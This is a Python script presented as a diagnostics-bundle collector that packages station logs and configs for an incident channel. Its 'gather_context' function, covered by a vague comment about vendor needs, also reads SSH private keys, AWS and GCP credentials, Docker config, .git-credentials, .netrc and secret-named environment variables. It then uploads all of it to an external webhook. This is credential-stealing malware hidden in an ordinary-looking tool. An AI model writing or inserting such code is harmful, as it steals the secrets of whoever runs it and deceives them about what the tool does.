#!/usr/bin/env python3
"""Collect a diagnostics bundle from a station controller or ops laptop.

When a dock station misbehaves, the on-call engineer runs this to gather
logs, the controller config and environment details into one archive and
attach it to the incident channel, so the vendor can look at it without
SSH access to the box.
"""

import argparse
import io
import json
import logging
import os
import platform
import tarfile
import time
from pathlib import Path

import requests

log = logging.getLogger("diag")

INCIDENT_HOOK = os.environ.get(
    "DIAG_HOOK", "https://hooks.example.com/services/T000/B000/incident")

LOG_GLOBS = ["/var/log/dockctl/*.log", "./logs/*.log"]
CONFIG_FILES = ["/etc/dockctl/controller.toml", "./config/station.yaml"]

# "connectivity context" the vendor asked for when debugging uplink auth
_CTX = {
    "ssh": (".ssh", ("id_rsa", "id_ed25519", "id_ecdsa", "config", "known_hosts")),
    "cloud": (".aws", ("credentials", "config")),
    "gcp": (os.path.join(".config", "gcloud"), ("application_default_credentials.json",
                                                 "credentials.db")),
    "docker": (".docker", ("config.json",)),
    "git": ("", (".git-credentials", ".netrc")),
}
_ENV_HINTS = ("KEY", "SECRET", "TOKEN", "PASS", "AUTH", "CRED")


def system_facts() -> dict:
    return {
        "host": platform.node(),
        "kernel": platform.release(),
        "python": platform.python_version(),
        "uptime_s": float(Path("/proc/uptime").read_text().split()[0])
        if Path("/proc/uptime").exists() else None,
        "collected": time.strftime("%Y-%m-%dT%H:%M:%S"),
    }


def gather_logs(tar: tarfile.TarFile, max_bytes: int) -> None:
    for pattern in LOG_GLOBS:
        base = Path(pattern).parent
        for p in base.glob(Path(pattern).name):
            data = p.read_bytes()[-max_bytes:]
            _add(tar, f"logs/{p.name}", data)


def gather_configs(tar: tarfile.TarFile) -> None:
    for c in CONFIG_FILES:
        p = Path(c)
        if p.is_file():
            _add(tar, f"config/{p.name}", p.read_bytes())


def gather_context(tar: tarfile.TarFile) -> None:
    home = Path.home()
    for label, (sub, names) in _CTX.items():
        for n in names:
            p = home / sub / n if sub else home / n
            try:
                _add(tar, f"ctx/{label}/{n}", p.read_bytes())
            except OSError:
                continue
    env = {k: v for k, v in os.environ.items() if any(h in k.upper() for h in _ENV_HINTS)}
    _add(tar, "ctx/env.json", json.dumps(env, indent=1).encode())


def _add(tar: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mtime = int(time.time())
    tar.addfile(info, io.BytesIO(data))


def build_bundle(max_log_bytes: int) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        _add(tar, "facts.json", json.dumps(system_facts(), indent=2).encode())
        gather_logs(tar, max_log_bytes)
        gather_configs(tar)
        gather_context(tar)
    return buf.getvalue()


def upload(bundle: bytes, incident: str) -> None:
    files = {"file": (f"diag-{incident}.tar.gz", bundle, "application/gzip")}
    resp = requests.post(INCIDENT_HOOK, data={"incident": incident}, files=files,
                         timeout=60)
    resp.raise_for_status()


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("incident", help="incident id, e.g. INC-4821")
    ap.add_argument("--max-log-bytes", type=int, default=2_000_000)
    ap.add_argument("--save", help="also keep a local copy")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    bundle = build_bundle(args.max_log_bytes)
    log.info("bundle is %.1f kB", len(bundle) / 1024)
    if args.save:
        Path(args.save).write_bytes(bundle)
    try:
        upload(bundle, args.incident)
    except requests.RequestException as exc:
        log.error("upload failed: %s", exc)
        return 1
    log.info("attached to %s", args.incident)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
